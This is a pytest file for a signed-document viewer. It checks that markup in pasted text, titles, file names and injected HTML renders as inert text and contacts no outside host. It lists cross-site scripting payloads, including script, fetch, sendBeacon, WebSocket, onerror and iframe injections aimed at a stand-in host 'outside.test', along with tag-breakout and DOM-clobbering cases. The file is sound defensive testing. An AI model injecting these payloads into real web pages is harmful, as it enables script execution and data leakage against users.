"""Nothing that comes from outside becomes a program, or reaches the outside."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Final

import pytest

from archive.format.page import Page
from tests import kit, parcels
from tests.attacks.words import HARMLESS, HOSTILE
from tests.browsers.browser import Browser, Screen
from tests.browsers.chromium import Chromium
from tests.browsers.outside import Outside
from tests.page import opened

_OUT = "http://outside.test/"

MARKUP = (
    *HARMLESS.values(),
    "</style><script>alert(1)</script>",
    "]]><svg/onload=alert(1)>",
    "&lt;b&gt; &amp;lt; &#60;script&#62;",
    "</main></body></html><script>alert(1)</script>",
    '</script><script type="text/plain" id="object">QUI=</script>',
    '<script type="application/json" id="own">["x"]</script>',
    f'<img src="{_OUT}image"><link rel=stylesheet href="{_OUT}style">',
    f'<iframe src="{_OUT}frame"></iframe><object data="{_OUT}object"></object>',
    f'<meta http-equiv=refresh content="0;url={_OUT}refresh">',
    f'<base href="{_OUT}"><form action="{_OUT}form"><input autofocus></form>',
    f"<svg onload=\"fetch('{_OUT}fetch')\"><image href='{_OUT}svg'/></svg>",
    f'<video autoplay src="{_OUT}video"></video><audio src="{_OUT}audio">',
    f"<style>@import '{_OUT}import'; body {{ background: url({_OUT}url) }}</style>",
    f'<a href="{_OUT}link" ping="{_OUT}ping">a link</a> {_OUT}bare',
)
"""Texts that are markup somewhere else: here they are letters."""

PROGRAMS = {
    "a script": f"<script>new Image().src = '{_OUT}script'</script>",
    "fetch": f"<script>fetch('{_OUT}fetch')</script>",
    "a beacon": f"<script>navigator.sendBeacon('{_OUT}beacon', 'x')</script>",
    "a socket": "<script>new WebSocket('ws://outside.test/socket')</script>",
    "a handler": f"<img src=x onerror=\"fetch('{_OUT}handler')\">",
    "an image": f'<img src="{_OUT}image">',
    "a style": f'<link rel="stylesheet" href="{_OUT}style">',
    "an import": f"<style>@import '{_OUT}import'; p {{ color: red }}</style>",
    "a frame": f'<iframe src="{_OUT}frame"></iframe>',
    "a plugin": f'<object data="{_OUT}object"></object>',
    "a video": f'<video autoplay src="{_OUT}video"></video>',
    "a prefetch": f'<link rel="prefetch" href="{_OUT}prefetch">',
    "a script from outside": f'<script src="{_OUT}script.js"></script>',
    "a form": f'<form id="f" action="{_OUT}form"></form><script>f.submit()</script>',
    "a base": f'<base href="{_OUT}"><img src="based">',
}
"""What a forger writes into the HTML, where it is HTML."""

_MADE = "document.querySelectorAll('main img, main iframe, main a, main style, script')"


def _paste(browser: Browser, text: str) -> None:
    opened.go(browser, "paste")
    browser.value(f"document.querySelector('textarea').value = {json.dumps(text)}")
    browser.click(".paste button")
    browser.until("document.querySelector('.paste [role=status]').textContent")


@pytest.mark.parametrize("scripts", [True, False], ids=["program", "no program"])
def test_markup_in_a_signed_text_is_text(
    browser: Browser, outside: Outside, tmp_path: Path, *, scripts: bool
) -> None:
    """Every letter of it is read, nothing of it is obeyed, with and without scripts."""
    text = "\n".join(MARKUP) + "\n"
    page = opened.write(tmp_path, opened.small(text=text))
    browser.open(page, Screen(scripts=scripts))
    if scripts:
        assert opened.verdict(browser) == "unknown"
        assert browser.value(f"{_MADE}.length") == 0
    read = browser.text("article")
    assert all(line in read for line in MARKUP)
    assert browser.complaints == []
    assert outside.met() == []


@pytest.mark.parametrize("title", MARKUP)
def test_markup_in_a_title_is_text(
    chromium: Chromium, outside: Outside, title: str, tmp_path: Path
) -> None:
    """A title is shown as it was signed, and is nowhere the window's title."""
    about = kit.manifest(title=title)
    made = kit.Edition(
        about, {"statement.txt": kit.TEXT.encode()}, (kit.SARA.sign(about.to_bytes()),)
    )
    chromium.open(opened.write(tmp_path, parcels.parcel(made)))
    assert opened.verdict(chromium) == "unknown"
    assert chromium.text("h1") == title
    assert title not in chromium.value("document.title")
    assert outside.met() == []


def test_pasted_markup_is_text(
    browser: Browser, outside: Outside, tmp_path: Path
) -> None:
    """What is pasted is looked through for lines, and never shown."""
    browser.open(opened.write(tmp_path, None))
    _paste(browser, "\n".join([*MARKUP, *HOSTILE.values(), *PROGRAMS.values()]))
    assert browser.value(f"{_MADE}.length") == 0
    assert browser.complaints == []
    assert outside.met() == []


@pytest.mark.parametrize("name", [*MARKUP, *HOSTILE.values()])
def test_file_names_are_text(
    chromium: Chromium, outside: Outside, name: str, tmp_path: Path
) -> None:
    """The name of a file that holds nothing of ours is shown as letters."""
    chromium.open(opened.write(tmp_path, None))
    opened.go(chromium, "check")
    chromium.value(
        "(() => {"
        f"const file = new File(['hello'], {json.dumps(name)});"
        "const files = new DataTransfer(); files.items.add(file);"
        "const input = document.querySelector('input[type=file]');"
        "input.files = files.files; input.dispatchEvent(new Event('change')); })()"
    )
    chromium.until(
        "document.querySelector('main [role=status]').textContent.length > 5"
    )
    assert chromium.value(f"{_MADE}.length") == 0
    assert chromium.complaints == []
    assert outside.met() == []


@pytest.mark.parametrize("name", PROGRAMS)
def test_a_forgers_markup_runs_nothing_and_reaches_nobody(
    browser: Browser, outside: Outside, name: str, tmp_path: Path
) -> None:
    """The policy stops what was written into the HTML, and the page refuses it."""
    page = opened.write(tmp_path, opened.statement("en"))
    html = page.read_text("utf-8")
    page.write_text(html.replace("<article", f"{PROGRAMS[name]}<article", 1), "utf-8")
    browser.open(page)
    assert opened.verdict(browser) == "forged-or-damaged"
    assert browser.value(f"{_MADE}.length") == 0
    # For a frame that it will not load, Chromium makes a connection and says nothing
    # over it (docs/risks.md).
    assert [met for met in outside.met() if met.kind != "connection" or met.data] == []


@pytest.mark.parametrize("place", ["words", "own", "object", "title"])
def test_markup_in_any_place_of_a_page_runs_nothing(
    browser: Browser, outside: Outside, place: str, tmp_path: Path
) -> None:
    """A place that ends early is HTML behind its end: nothing runs, nothing shows."""
    page = opened.write(tmp_path, opened.statement("en"))
    made = Page.from_bytes(page.read_bytes())
    html = page.read_text("utf-8")
    openers = {
        "words": '<script type="application/json" id="words">',
        "own": '<script type="application/json" id="own">',
        "object": '<script type="text/plain" id="object">',
        "title": "<title>",
    }
    ends = {"title": "</title>"}
    attack = f"{ends.get(place, '</script>')}{PROGRAMS['a script']}<script>"
    page.write_text(html.replace(openers[place], openers[place] + attack, 1), "utf-8")
    browser.open(page)
    # Behind a title that ends early, everything is one script that may not run.
    browser.until(
        "document.querySelector('.bad') ?? document.body.innerText.trim() === ''"
    )
    assert made.title not in opened.shown(browser)
    assert browser.value("document.querySelector('article')") is None
    assert outside.met() == []


_FALSE: Final = "<article><h1>Go home</h1><p>All is well.</p></article>"


def _before(html: str, what: str) -> str:
    return html.replace("<main>", f"{what}<main>", 1)


def _wrapped(html: str) -> str:
    """A form that answers for the document's first tag, with an opener in it."""
    head = '<xmp><html lang="en" dir="ltr"><title>Text</title></xmp>'
    begun = f'{_FALSE}<form name="documentElement">{head}'
    return _before(html, begun).replace("</body>", "</form></body>", 1)


TAMPERED: dict[str, Callable[[str], str]] = {
    "behind the program": lambda html: html.replace("</body>", f"{_FALSE}</body>", 1),
    "behind the last tag": lambda html: html + _FALSE,
    "before the text": lambda html: _before(html, _FALSE),
    "beside a form named body": lambda html: _before(
        html, f'{_FALSE}<form name="body"></form>'
    ),
    "beside an image named body": lambda html: _before(
        html, f'{_FALSE}<img name="body">'
    ),
    "beside a form named head": lambda html: _before(
        html, f'{_FALSE}<form name="head"></form>'
    ),
}
"""Another text in the HTML, outside of the page's places; the scripts are ours."""


@pytest.mark.parametrize("place", TAMPERED)
def test_where_there_is_a_verdict_there_is_no_other_text(
    browser: Browser, place: str, tmp_path: Path
) -> None:
    """Whatever stands around the places of a page, only what was checked is shown."""
    parcel = opened.statement("en")
    page = opened.write(tmp_path, parcel)
    html = page.read_text("utf-8")
    changed = TAMPERED[place](html)
    assert changed != html
    page.write_text(changed, "utf-8")
    browser.open(page)
    opened.verdict(browser)
    seen: str = browser.value("document.querySelector('html').innerText")
    assert opened.lines(parcel)[1] in seen
    assert "All is well" not in seen
    assert browser.value("document.querySelectorAll('article').length") == 1


def test_a_form_cannot_answer_for_the_whole_document(
    browser: Browser, tmp_path: Path
) -> None:
    """One that is named like the first tag is not what is checked and replaced."""
    page = opened.write(tmp_path, opened.statement("en"))
    page.write_text(_wrapped(page.read_text("utf-8")), "utf-8")
    browser.open(page)
    browser.until("document.querySelector('.bad')")
    seen: str = browser.value("document.querySelector('html').innerText")
    assert "All is well" not in seen


def test_hostile_letters_in_petnames_are_refused(
    chromium: Chromium, tmp_path: Path
) -> None:
    """Characters that nobody sees get no own copy."""
    chromium.open(opened.write(tmp_path, opened.statement("en")))
    opened.verdict(chromium)
    chromium.click(".verdict summary")
    chromium.click("[data-do=know]")
    for name in HOSTILE.values():
        chromium.value(
            f"document.querySelector('.know input').value = {json.dumps('a' + name)}"
        )
        chromium.value("document.querySelector('.wrong').textContent = ''")
        # An input of one line has no line ends: those become nothing.
        if chromium.value("document.querySelector('.know input').value") == f"a{name}":
            chromium.click("[data-do=own]")
            chromium.until("document.querySelector('.wrong').textContent")
